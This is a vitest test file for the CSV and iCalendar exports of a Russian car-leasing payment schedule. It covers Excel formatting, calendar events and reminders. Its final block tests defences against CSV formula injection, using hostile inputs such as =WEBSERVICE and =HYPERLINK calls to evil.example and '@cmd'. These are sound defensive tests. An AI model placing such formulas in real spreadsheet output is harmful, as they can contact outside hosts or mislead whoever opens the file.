import {
  SCHEDULE_COLUMNS,
  SCHEDULE_TABLE_COLUMNS,
  scheduleCsvFields,
  scheduleCsvHeader,
} from '@common/schedule-columns';
import { csvCell, scheduleCsv } from '@edge/exports/schedule-csv';
import { scheduleIcs } from '@edge/exports/schedule-ics';
import type { Contract, ScheduleRow } from '@edge/upstream/contracts';
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';

const contract = {
  id: 3,
  number: 'ЛД-2025-0312',
  date: '2025-06-20',
  car: { name: 'ГАЗ Газель NEXT; "грузовой"', year: 2025 },
} as Contract;

const row = (over: Partial<ScheduleRow>): ScheduleRow => ({
  id: 82,
  number: 17,
  kind: { slug: 'monthly', name: 'Лизинговый платёж' },
  date: '2026-11-20',
  amount: 120393.13,
  principal: 87483.27,
  interest: 32909.86,
  vatRate: 22,
  vat: 21710.24,
  balance: 1991034.05,
  status: { slug: 'unpaid', name: 'Ожидает оплаты' },
  paidAt: null,
  ...over,
});

describe('schedule CSV for Russian Excel', () => {
  const csv = scheduleCsv(contract, [
    row({ id: 81, number: 16, date: '2026-10-20', status: { slug: 'paid', name: 'Оплачен' }, paidAt: '2026-10-19' }),
    row({}),
  ]);

  it('starts with a UTF-8 BOM and separates fields with semicolons and lines with CRLF', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.split('\r\n')[3]).toBe(
      '№;Вид платежа;Дата;Сумма, ₽;Основной долг, ₽;Проценты, ₽;Ставка НДС, %;НДС, ₽;Остаток долга, ₽;Статус;Дата оплаты',
    );
  });

  it('writes ru-RU numbers and dates Excel reads as numbers and dates', () => {
    const lines = csv.split('\r\n');
    expect(lines[4]).toBe(
      '16;Лизинговый платёж;20.10.2026;120393,13;87483,27;32909,86;22;21710,24;1991034,05;Оплачен;19.10.2026',
    );
    expect(lines[5]).toBe(
      '17;Лизинговый платёж;20.11.2026;120393,13;87483,27;32909,86;22;21710,24;1991034,05;Ожидает оплаты;',
    );
  });

  it('quotes a field with a separator or a quote', () => {
    expect(csv.split('\r\n')[1]).toBe('"ГАЗ Газель NEXT; ""грузовой"", 2025"');
  });
});

describe('the schedule column table', () => {
  it("gives the CSV one field per column field, header and rows alike, in the table's order", () => {
    const header = scheduleCsvHeader();
    expect(header).toEqual(SCHEDULE_COLUMNS.flatMap((column) => column.csv.map((field) => field.label)));
    expect(scheduleCsvFields(row({}))).toHaveLength(header.length);
    const csv = scheduleCsv(contract, [row({})]).split('\r\n');
    expect(csv[3]).toBe(header.map(csvCell).join(';'));
    expect(csv[4]).toBe(scheduleCsvFields(row({})).map(csvCell).join(';'));
  });

  it('shows on the page every column but the CSV-only ones, labelled once', () => {
    expect(SCHEDULE_TABLE_COLUMNS.map((column) => column.label)).toEqual([
      '№',
      'Вид',
      'Дата',
      'Сумма',
      'Основной долг',
      'Проценты',
      'НДС',
      'Статус',
    ]);
    expect(new Set(SCHEDULE_COLUMNS.map((column) => column.key)).size).toBe(SCHEDULE_COLUMNS.length);
  });
});

describe('schedule iCalendar', () => {
  const ics = scheduleIcs(
    contract,
    [
      row({ id: 81, status: { slug: 'paid', name: 'Оплачен' } }),
      row({}),
      row({ id: 83, number: 18, date: '2026-12-20' }),
    ],
    'drive-leasing.ru',
    new Date('2026-11-23T10:00:00Z'),
  );

  it('is read by ical.js: one all-day event per unpaid payment, with the amount', () => {
    const calendar = new ICAL.Component(ICAL.parse(ics));
    const events = calendar.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    expect(events).toHaveLength(2);
    expect(events[0]?.summary).toBe('Лизинговый платёж: 120\u202f393,13\u00a0₽');
    expect(events[0]?.startDate.toString()).toBe('2026-11-20');
    expect(events[0]?.startDate.isDate).toBe(true);
    expect(events[1]?.startDate.toString()).toBe('2026-12-20');
    expect(events[0]?.description).toContain('по договору № ЛД-2025-0312');
    expect(events[0]?.uid).toBe('schedule-3-82@drive-leasing.ru');
  });

  it('reminds the day before', () => {
    const calendar = new ICAL.Component(ICAL.parse(ics));
    const alarm = calendar.getFirstSubcomponent('vevent')?.getFirstSubcomponent('valarm');
    const trigger = alarm?.getFirstPropertyValue('trigger') as ICAL.Duration;
    expect(trigger.toSeconds()).toBe(-14 * 3600);
  });

  it('folds long lines at 75 octets without splitting a character', () => {
    for (const line of ics.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
  });
});

describe('schedule CSV against formula injection (OWASP «CSV injection»)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","Оплатить")', `"'=HYPERLINK(""http://evil.example"",""Оплатить"")"`],
    ['+7 (900) 000-00-01', "'+7 (900) 000-00-01"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tтабуляция', "'\tтабуляция"],
    ['\r=1+1', `"'\r=1+1"`],
    ['-', "'-"],
  ])('neutralises %j with a leading apostrophe', (raw, written) => {
    expect(csvCell(raw)).toBe(written);
  });

  it.each(['-1234,50', '+7', '-0.5', '120393,13', 'ЛД-2025-0147', 'Оплачен', ''])('keeps %j as it is', (raw) => {
    expect(csvCell(raw)).toBe(raw);
  });

  it('neutralises upstream text in every row, numbers stay numbers', () => {
    const csv = scheduleCsv({ ...contract, number: '=1+1', car: { name: '@cmd', year: 2025 } } as Contract, [
      row({ kind: { slug: 'monthly', name: '=WEBSERVICE("http://evil.example")' }, balance: -5 }),
    ]);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('\uFEFFГрафик платежей по договору № =1+1 от 20.06.2025');
    expect(lines[1]).toBe("'@cmd, 2025");
    expect(lines[4]).toBe(
      `17;"'=WEBSERVICE(""http://evil.example"")";20.11.2026;120393,13;87483,27;32909,86;22;21710,24;-5,00;Ожидает оплаты;`,
    );
  });
});
